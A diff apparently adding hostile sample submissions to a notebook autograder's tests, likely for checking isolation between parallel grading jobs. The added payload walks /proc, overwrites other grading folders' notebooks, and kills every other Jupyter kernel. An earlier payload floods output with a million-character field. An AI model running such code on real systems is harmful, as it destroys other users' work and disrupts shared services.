@@ -138,3 +138,30 @@ for i in range(12):
     display({"application/vnd.course.check+json": {"set": "_demo", "question": "q1", "status": "received",
              "junk": "r" * 1000000}, "text/plain": "r"}, raw=True)
 '''
+
+#: Harms classmates graded at the same time (-j 2): kills every other Jupyter kernel it can see and rewrites
+#: the notebook and key-less course of every other grading folder it finds through /proc.
+KILL_SIBLINGS = r'''
+import os, signal
+me, hits = os.getpid(), []
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
+        cwd = os.readlink(f"/proc/{pid}/cwd")
+    except Exception:
+        continue
+    if "ipykernel" in cmd or "course-grade-" in cwd:
+        for name in os.listdir(cwd) if "course-grade-" in cwd else ():
+            if name.endswith(".ipynb"):
+                try:
+                    open(os.path.join(cwd, name), "w").write("{}")
+                    hits.append("rewrote " + name)
+                except Exception:
+                    pass
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+            hits.append("killed " + pid)
+        except Exception:
+            pass
+print("HITS", hits)
+'''
